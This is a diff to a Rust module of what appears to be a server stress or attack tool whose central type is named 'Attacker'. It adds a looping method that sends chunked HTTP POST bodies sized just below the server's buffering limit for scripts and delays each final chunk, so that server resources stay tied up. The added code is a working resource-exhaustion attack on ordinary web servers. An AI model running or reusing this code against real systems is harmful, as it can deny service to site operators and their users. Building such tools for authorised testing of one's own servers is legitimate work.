@@ -1,7 +1,10 @@
-//! Uploads that nobody takes.
+//! Uploads that nobody takes, and those that are collected before anybody may.
 
-use tokio::io::{self, sink, split};
+use std::time::Duration;
+
+use tokio::io::{self, AsyncReadExt, AsyncWriteExt, sink, split};
 use tokio::net::TcpStream;
+use tokio::time::sleep;
 use tokio_rustls::client::TlsStream;
 
 use super::Attacker;
@@ -47,6 +50,31 @@ impl Attacker {
     }
 }
 
+impl Attacker {
+    /// Sends chunked bodies just under the size up to which they are collected for scripts,
+    /// and keeps each from its end for a while.
+    pub(super) async fn late_ends(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
+        let (path, host) = (&self.target.path, &self.target.host);
+        let head =
+            format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n");
+        let size = format!("{PIECE:x}\r\n");
+        let chunk = [size.as_bytes(), &[b'x'; PIECE], b"\r\n"].concat();
+        let mut answer = vec![0; PIECE];
+        loop {
+            self.write(stream, head.as_bytes(), 1).await?;
+            for _ in 0..COLLECTED / PIECE - 1 {
+                stream.write_all(&chunk).await?;
+            }
+            stream.flush().await?;
+            sleep(BEFORE_END).await;
+            self.write(stream, b"0\r\n\r\n", 1).await?;
+            if stream.read(&mut answer).await? == 0 {
+                return Ok(());
+            }
+        }
+    }
+}
+
 /// Bytes that the server lets a client send.
 #[derive(Default)]
 struct Windows {
@@ -83,3 +111,7 @@ impl Windows {
 const FIRST_WINDOW: usize = 65_535;
 /// Bytes of a frame.
 const PIECE: usize = 16 << 10;
+/// Bytes of a body without a length that is collected for a script.
+const COLLECTED: usize = 1 << 20;
+/// Pause before a body's last chunk.
+const BEFORE_END: Duration = Duration::from_secs(1);
